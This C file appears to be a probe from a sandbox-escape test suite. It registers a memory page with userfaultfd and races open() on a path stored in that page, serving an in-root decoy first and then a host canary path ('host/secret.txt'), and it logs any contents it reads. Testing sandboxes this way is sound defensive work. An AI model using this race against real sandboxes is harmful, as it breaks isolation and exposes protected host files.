// userfaultfd: with kernel-mode faults it stalls whoever touches a registered page, including a
// sandbox reading the step's memory (the race amplifier of choice). Tried through the syscall and
// /dev/userfaultfd. The probe then passes a path that lives in a registered page to open(): the
// first touch is answered with an in-root path, a later one with the host path of the canary.
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>

#include "probe.h"

static int uffd = -1;
static char* page;
static char* host_path;
static volatile int faults;

static void* handler(void* arg) {
  (void)arg;
  static char src[4096] __attribute__((aligned(4096)));
  for (;;) {
    struct uffd_msg m;
    if (read(uffd, &m, sizeof m) != sizeof m) return NULL;
    if (m.event != UFFD_EVENT_PAGEFAULT) continue;
    memset(src, 0, sizeof src);
    if (faults++ == 0)
      strcpy(src, "/tmp/ocib-uffd-decoy");
    else
      strcpy(src, host_path);
    struct uffdio_copy c = {(unsigned long)page, (unsigned long)src, 4096, 0, 0};
    ioctl(uffd, UFFDIO_COPY, &c);
  }
}

int main(void) {
  p_start();
  host_path = p_strf("%s/host/secret.txt", T());
  int f = open("/tmp/ocib-uffd-decoy", O_CREAT | O_WRONLY, 0644);
  if (f >= 0) close(f);
  uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
  ATT(uffd, "userfaultfd(kernel faults too)");
  int user_only = (int)syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
  ATT(user_only, "userfaultfd(UFFD_USER_MODE_ONLY)");
  int dev = open("/dev/userfaultfd", O_RDWR);
  ATT(dev, "open(/dev/userfaultfd)");
  if (uffd < 0 && dev >= 0) uffd = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC);
  if (uffd < 0) p_end();
  struct uffdio_api api = {UFFD_API, 0, 0};
  ATT(ioctl(uffd, UFFDIO_API, &api), "UFFDIO_API");
  page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  struct uffdio_register reg = {{(unsigned long)page, 4096}, UFFDIO_REGISTER_MODE_MISSING, 0};
  if (ATT(ioctl(uffd, UFFDIO_REGISTER, &reg), "UFFDIO_REGISTER") != 0) p_end();
  pthread_t t;
  pthread_create(&t, NULL, handler, NULL);
  for (int i = 0; i < 20; ++i) {
    int fd = (int)syscall(SYS_open, page, O_RDONLY);
    if (fd >= 0) {
      char b[256];
      ssize_t n = read(fd, b, sizeof b);
      if (n > 0) p_loot("uffd open", b, (size_t)n);
      close(fd);
    }
    madvise(page, 4096, MADV_DONTNEED);  // the next touch faults again
  }
  p_line("ATTEMPT", "userfaultfd: %d faults served", faults);
  p_end();
}
